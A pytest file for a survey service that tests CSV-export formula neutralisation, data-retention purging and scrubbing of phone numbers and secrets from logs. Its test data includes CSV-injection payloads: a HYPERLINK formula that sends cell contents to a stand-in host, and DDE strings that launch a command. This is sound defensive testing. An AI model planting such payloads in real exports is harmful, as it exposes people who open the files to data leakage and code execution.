"""Exports a spreadsheet opens as data (never formulas), retention of bodies, payloads and paid numbers, and
logs that never show a number or a secret."""

from __future__ import annotations

import csv
import io
import logging

import pytest
from click.testing import CliRunner

from service import runtime as runtimes
from service.logs import scrub
from service.spreadsheet import inert
from tests.support import Harness

SURVEY = """
id: abierta
version: 1
title: {es: Abierta, en: Open}
languages: [es, en]
default_language: es
incentive: {amount: 30, currency: MXN}
consent:
  text: {es: ¿Acepta?, en: Agree?}
questions:
  - id: state
    type: region
    text: {es: ¿En qué estado vive?, en: Which state do you live in?}
  - id: comment
    type: text
    text: {es: ¿Algo más?, en: Anything else?}
"""
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tx", "\r=1"]


@pytest.fixture
def h(sqlite_url, providers, tmp_path):
    folder = tmp_path / "surveys"
    folder.mkdir()
    (folder / "abierta.yaml").write_text(SURVEY, encoding="utf-8")
    harness = Harness(sqlite_url, providers, tmp_path, surveys_dir=folder, default_survey="abierta")
    yield harness
    harness.close()


def test_inert_cells():
    assert [inert(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
    assert inert("hola") == "hola" and inert(-0.25) == -0.25 and inert(3) == 3 and inert("") == ""


def test_the_responses_export_neutralizes_formulas(h):
    typed = FORMULAS[:4] + ["  =1+1"]  # what SMS can carry (answers are stripped of spaces, tabs, returns)
    for number, formula in enumerate(typed):
        for text in ("hola", "si", "jalisco", formula):
            h.sms(f"+5255123400{number:02d}", text)
            h.settle()
    body = h.api("/api/v1/surveys/abierta/responses?format=csv").get_data(as_text=True)
    comments = [row["comment"] for row in csv.DictReader(io.StringIO(body))]
    assert len(comments) == len(typed) and all(c.startswith("'") for c in comments), comments
    assert "'=HYPERLINK(\"http://x/?\"&A1,\"click\")" in comments


def test_the_incentives_export_and_the_gaps_csv_are_inert(h, tmp_path):
    for text in ("hola", "si", "jalisco", "nada"):
        h.sms("+525512345678", text)
        h.settle()
    from service.cli import main

    env = {"DATABASE_URL": h.settings.database_url, "RETORNO_SECRET_KEY": h.settings.secret_key, "REDIS_URL": "",
           "RETORNO_SURVEYS_DIR": str(tmp_path / "surveys")}
    out = tmp_path / "owed.csv"
    result = CliRunner().invoke(main, ["incentives", "export", "-o", str(out)], env=env, catch_exceptions=False)
    runtimes.install(h.rt)
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(out.open()))
    assert row["phone"] == "'+525512345678"
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    assert [e["action"] for e in h.api("/api/v1/audit").get_json()].count("incentives.exported") == 1

    from service.gaps import views
    from service.gaps.snapshot import COLUMNS

    payload = {"survey_id": "x", "version": 1, "wave": None, "generated_at": "2026-03-02T00:00:00+00:00",
               "min_cell": 5, "respondents": 9, "comparison": None, "columns": list(COLUMNS), "rows": []}
    cell = dict.fromkeys(COLUMNS)
    cell.update(region="01", region_name="=cmd|' /C calc'!A0", overall=True, n=9, gap_n=1, gap_rate=1 / 9,
                suppressed=False, gap_difference=-0.125)
    payload["rows"].append([cell[c] for c in COLUMNS])
    written = views.to_csv(payload, views.Selection())
    assert "'=cmd" in written and ",=cmd" not in written


def test_negative_figures_in_the_gaps_csv_stay_numbers_and_only_text_is_neutralized():
    """A spreadsheet must read -0.1250 as a number (a gap difference below zero); the quote is only for text that a
    spreadsheet would take for a formula, whatever the figure's sign or size."""
    from service.gaps import views
    from service.gaps.snapshot import COLUMNS

    figures = {"gap_difference": -0.125, "difference_ci_low": -0.98765, "difference_ci_high": -0.00001,
               "returnee_gap_rate": 0.5, "community_gap_rate": 0.625, "gap_rate": 1 / 9, "ci_low": -0.0,
               "ci_high": 1e-9}
    payload = {"survey_id": "x", "version": 1, "wave": None, "generated_at": "2026-03-02T00:00:00+00:00",
               "min_cell": 5, "respondents": 9, "comparison": None, "columns": list(COLUMNS), "rows": []}
    names = ["-Norte", "+Sur", "@Centro", "=1+1", "\tTab", "\r=1", "Jalisco", "-1+2", "-", "- 3"]
    for number, name in enumerate(names):
        cell = dict.fromkeys(COLUMNS)
        cell.update(region=f"{number + 1:02d}", region_name=name, overall=True, n=9, gap_n=1, suppressed=False,
                    **figures)
        payload["rows"].append([cell[c] for c in COLUMNS])
    rows = list(csv.DictReader(io.StringIO(views.to_csv(payload, views.Selection()), newline="")))
    assert len(rows) == len(names)
    for row, name in zip(rows, names, strict=True):
        assert row["gap_difference"] == "-0.1250" and row["difference_ci_low"] == "-0.9877"
        assert row["difference_ci_high"] == "-0.0000" and row["ci_low"] == "-0.0000"
        assert row["returnee_gap_rate"] == "0.5000" and row["n"] == "9"
        for field in ("gap_difference", "difference_ci_low", "difference_ci_high", "ci_low"):
            assert float(row[field]) <= 0, "a spreadsheet reads it as a number"
        expected = "'" + name if name[0] in "=+-@\t\r" else name
        assert row["region_name"] == expected, (name, row["region_name"])


def test_bodies_payloads_and_paid_numbers_are_purged_after_retention(h):
    from workers.privacy import purge

    for text in ("hola", "si", "jalisco", "nada"):
        h.sms("+525512345678", text)
        h.settle()
    h.telegram_text(555, "hola")
    h.settle()
    assert h.count("SELECT count(*) FROM inbound_messages WHERE body != ''") == 5
    assert purge()["inbound"] == 0, "nothing is old enough yet"
    with h.rt.engine.begin() as connection:
        from sqlalchemy import text

        connection.execute(text("UPDATE incentives SET status = 'succeeded', paid_at = :now"), {"now": h.clock.now})
    h.clock.advance(days=29)
    h.telegram_text(555, "si")  # a young message: kept
    h.settle()
    assert purge() == {"erased": 0, "inbound": 0, "outbound": 0, "payout_numbers": 0, "dashboard_sessions": 0,
                       "spool_rejected": 0}
    h.clock.advance(days=1, seconds=1)
    counts = purge()
    assert counts["inbound"] == 5 and counts["outbound"] >= 5 and counts["payout_numbers"] == 1
    assert h.count("SELECT count(*) FROM inbound_messages WHERE body != ''") == 1
    assert h.count("SELECT count(*) FROM outbound_messages WHERE body = ''") == counts["outbound"]
    assert h.count("SELECT count(*) FROM incentives WHERE phone_enc IS NULL AND phone_hash IS NOT NULL") == 1
    assert purge()["inbound"] == 0, "each message is purged once"
    h.clock.advance(days=29)
    assert purge()["inbound"] == 1


def test_retention_is_configurable(monkeypatch, tmp_path):
    from service.config import ConfigError, Settings

    env = {"RETORNO_DATA_DIR": str(tmp_path), "RETORNO_RETENTION_DAYS": "7"}
    assert Settings.from_env(env).retention_days == 7
    assert Settings.from_env({"RETORNO_DATA_DIR": str(tmp_path)}).retention_days == 30
    for bad in ("0", "a week"):
        with pytest.raises(ConfigError, match="RETORNO_RETENTION_DAYS"):
            Settings.from_env({**env, "RETORNO_RETENTION_DAYS": bad})
    old = Settings.from_env({**env, "RETORNO_OLD_SECRET_KEYS": "first-old-key-123456, second-old-key-1234"})
    assert old.old_secret_keys == ("first-old-key-123456", "second-old-key-1234")


@pytest.mark.parametrize(("text", "expected"), [
    ("sent to +52 55 1234 5678.", "sent to [number]."),
    ("whatsapp:+5215512345678", "whatsapp:[number]"),
    ("GET /operators/auto-detect/phone/525512345678/countries/MX", "GET /operators/auto-detect/phone/[number]"
                                                                    "/countries/MX"),
    ("From=%2B525512345678&Body=hola", "From=[number]&Body=hola"),
    ("(55) 1234-5678", "([number]"),
    ("POST https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage",
     "POST https://api.telegram.org/bot[secret]/sendMessage"),
    ("Authorization: Bearer rt_abcdefghijklmnopqrstuvwxyz012345", "Authorization: [secret]"),
    ("at 2026-03-02 18:00:00, 412 ms, chat 5550001, SM0000000000000000000000000000042", None),
])
def test_scrubbing(text, expected):
    assert scrub(text) == (text if expected is None else expected)


def test_every_log_record_is_scrubbed_and_noisy_libraries_stay_quiet(caplog):
    from service import logs

    logs.install()
    logs.protect("a-provider-secret-value")
    with caplog.at_level(logging.DEBUG):
        logging.getLogger("retorno.test").info("paid %s with %s", "+525512345678", "a-provider-secret-value")
        try:
            raise ValueError("could not reach /phone/525512345678/countries/MX")
        except ValueError:
            logging.getLogger("retorno.test").exception("lookup failed")
    text = caplog.text
    assert "5512345678" not in text and "a-provider-secret-value" not in text
    assert "paid [number] with [secret]" in text and "/phone/[number]/countries" in text
    assert logging.getLogger("urllib3").level >= logging.WARNING
